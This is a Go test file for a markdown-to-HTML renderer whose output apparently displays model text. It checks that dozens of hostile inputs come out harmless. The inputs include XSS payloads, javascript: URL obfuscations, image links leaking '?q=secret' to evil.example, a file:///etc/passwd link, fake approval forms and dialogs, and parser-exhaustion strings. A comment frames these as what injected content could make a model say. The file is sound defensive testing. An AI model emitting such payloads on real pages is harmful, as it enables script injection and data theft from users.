package web

import (
	"regexp"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
)

func TestMarkdown(t *testing.T) {
	md := NewMarkdown()
	tests := map[string]string{
		"":                                 "",
		"There are **37**.":                "<p>There are <strong>37</strong>.</p>\n",
		"a < b && `c > d`":                 "<p>a &lt; b &amp;&amp; <code>c &gt; d</code></p>\n",
		"~~old~~ *new*":                    "<p><del>old</del> <em>new</em></p>\n",
		"- a\n- b":                         "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n",
		"3. a\n4. b":                       "<ol start=\"3\">\n<li>a</li>\n<li>b</li>\n</ol>\n",
		"# 标题\n\n> 引用":                     "<h1>标题</h1>\n<blockquote>\n<p>引用</p>\n</blockquote>\n",
		"```sql\nSELECT '<b>'\n```":        "<pre><code class=\"language-sql\">SELECT &#39;&lt;b&gt;&#39;\n</code></pre>\n",
		"|n|员工|\n|--:|:--|\n|1|a|":         "<table>\n<thead>\n<tr>\n<th align=\"right\">n</th>\n<th align=\"left\">员工</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td align=\"right\">1</td>\n<td align=\"left\">a</td>\n</tr>\n</tbody>\n</table>\n",
		"[docs](https://go.dev/x?a=1&b=2)": "<p><a href=\"https://go.dev/x?a=1&amp;b=2\" rel=\"nofollow noreferrer noopener\" target=\"_blank\">docs</a></p>\n",
		"see https://go.dev":               "<p>see <a href=\"https://go.dev\" rel=\"nofollow noreferrer noopener\" target=\"_blank\">https://go.dev</a></p>\n",
		"[mail](mailto:a@b.example)":       "<p><a href=\"mailto:a@b.example\" rel=\"nofollow noreferrer\">mail</a></p>\n",
	}
	for text, want := range tests {
		if got := md.HTML(text); got != want {
			t.Errorf("%q\n got %q\nwant %q", text, got, want)
		}
	}
}

// What a row or a page says to a model must not come out as something that
// loads, runs, or looks like the application.
func TestMarkdownHostile(t *testing.T) {
	md := NewMarkdown()
	for _, text := range []string{
		"![p](https://evil.example/?q=secret)",
		"![p][r]\n\n[r]: https://evil.example/?q=secret",
		"[![p](https://evil.example/i)](https://evil.example)",
		"![x](data:image/svg+xml;base64,PHN2Zz4=)",
		`<img src=x onerror=alert(1)>`,
		`<img src="https://evil.example/?q=secret">`,
		"<picture><source srcset=https://evil.example></picture>",
		"<script>window.__pwn=1</script>",
		"<svg onload=alert(1)><use href='https://evil.example#x'/></svg>",
		"<iframe src=https://evil.example></iframe>",
		"<style>body{background:url(https://evil.example)}</style>",
		"<link rel=stylesheet href=https://evil.example>",
		"<meta http-equiv=refresh content='0;url=https://evil.example'>",
		"<form action=/api/approvals/x method=post><button>Confirm</button></form>",
		"<input name=typed autofocus onfocus=alert(1)>",
		"<base href=https://evil.example>",
		"<p style='position:fixed;inset:0'>cover</p>",
		"<div id=approval class=dialog>fake</div>",
		"<details open ontoggle=alert(1)>",
		"<a href=javascript:alert(1)>x</a>",
		"[x](javascript:alert(1))",
		"[x](JaVaScRiPt:alert(1))",
		"[x](java\tscript:alert(1))",
		"[x](&#106;avascript:alert(1))",
		"[x](%6Aavascript:alert(1))",
		"[x](javascript&colon;alert(1))",
		"[x](vbscript:msgbox(1))",
		"[x](data:text/html,<script>alert(1)</script>)",
		"[x](file:///etc/passwd)",
		"[x](blob:https://evil.example/1)",
		"[x](/api/audit)",
		"[x](//evil.example)",
		"[x](\\\\evil.example\\share)",
		"<javascript:alert(1)>",
		"[x]( https://ok.example \"onmouseover=alert(1)\" )",
		"[x](https://ok.example '\"><img src=x onerror=alert(1)>')",
		"```\"><script>alert(1)</script>\n```",
		"```html onload=alert(1)\nx\n```",
		"`<script>`\n\n    <script>alert(1)</script>",
		"|<img src=x onerror=alert(1)>|\n|-|\n|<script>x</script>|",
		"# x {#id onclick=alert(1)}",
		"&lt;script&gt;alert(1)&lt;/script&gt;",
		"\x00<scr\x00ipt>alert(1)</script>",
		"<!--><script>alert(1)</script>-->",
		"<![CDATA[<script>alert(1)</script>]]>",
		"<math><mtext></p><style><!--</style><img src=x onerror=alert(1)>",
	} {
		checkSafe(t, text, md.HTML(text))
	}
}

// What would take the parser minutes, or make megabytes of a few lines, is shown
// as it is; the rest of what an attacker might have a model say is bounded.
func TestMarkdownCost(t *testing.T) {
	md := NewMarkdown()
	repeat := func(s string, size int) string { return strings.Repeat(s, size/len(s)) }
	for name, text := range map[string]string{
		"brackets":     repeat("[", 60_000),
		"links":        repeat("[a](", 60_000),
		"few links":    repeat("[a](", 4*2900),
		"emphasis":     repeat("*a_ ", 60_000),
		"few emphases": repeat("*a_ ", 2*2900),
		"quotes":       repeat("> ", 60_000),
		"few quotes":   repeat("> ", 2*2900),
		"wide table":   strings.Repeat("|a", 300) + "\n" + strings.Repeat("|-", 300) + "\n" + repeat("|\n", 50_000),
		"quoted table": "> " + strings.Repeat("|a", 300) + "\n> " + strings.Repeat("|-", 300) + "\n" + repeat("> |\n", 50_000),
		"table":        strings.Repeat("|a", 100) + "\n" + strings.Repeat("|-", 100) + "\n" + repeat("|\n", 2*190),
		"code":         repeat("`a``", 60_000),
		"lists":        repeat("- ", 60_000),
		"long":         repeat("a ", 1<<20),
	} {
		start := time.Now()
		page := md.HTML(text)
		if took := time.Since(start); took > 10*time.Second {
			t.Errorf("%s: %v", name, took)
		}
		if len(page) > 2<<20 {
			t.Errorf("%s: %d bytes of %d", name, len(page), len(text))
		}
		checkSafe(t, name, page)
	}
	if page := md.HTML(repeat("<b>", 70_000)); !strings.HasPrefix(page, "<pre>&lt;b&gt;") {
		t.Errorf("%.60s", page)
	}
}

// FuzzMarkdown looks for any text whose HTML has more in it than the list of
// harmless elements and attributes.
func FuzzMarkdown(f *testing.F) {
	for _, seed := range []string{
		"![p](https://e/?q=s)", "[x](javascript:a)", "<img src=x>", "|a|\n|-|\n|b|", "```x\ny\n```", "<a href=\"https://a\">", "[a]: b\n[a]",
		"https://a.example/?<b>", "1) a\n\n   b", "<!-- x", "&amp;#x3c;script>", "a\r\nb\x00",
	} {
		f.Add(seed)
	}
	md := NewMarkdown()
	f.Fuzz(func(t *testing.T, text string) { checkSafe(t, text, md.HTML(text)) })
}

var (
	harmless = regexp.MustCompile(`^(p|br|hr|h[1-6]|strong|em|del|code|pre|blockquote|ul|ol|li|table|thead|tbody|tr|th|td|a)$`)
	// attributes are written as element, name and value.
	attributes = regexp.MustCompile(`^(a href (?i:https?://[^/]|mailto:).*|a rel [a-z ]*nofollow[a-z ]*|a target _blank|ol start \d+|t[hd] align (left|right|center)|code class language-[\w+#.-]+)$`)
)

// checkSafe parses page as a browser would.
func checkSafe(t *testing.T, text, page string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(page))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return
		case html.TextToken, html.EndTagToken:
		case html.CommentToken, html.DoctypeToken:
			t.Errorf("%q: %q", text, page)
		case html.StartTagToken, html.SelfClosingTagToken:
			token := z.Token()
			if !harmless.MatchString(token.Data) {
				t.Errorf("%q gives <%s>: %q", text, token.Data, page)
			}
			for _, a := range token.Attr {
				if !attributes.MatchString(token.Data + " " + a.Key + " " + a.Val) {
					t.Errorf("%q gives %s=%q on <%s>: %q", text, a.Key, a.Val, token.Data, page)
				}
			}
		}
	}
}

func BenchmarkMarkdown(b *testing.B) {
	md := NewMarkdown()
	text := "There are **37** people who left before 2019.\n\n" + strings.Repeat("|1|Ada|engineering|\n", 20)
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		md.HTML(text)
	}
}
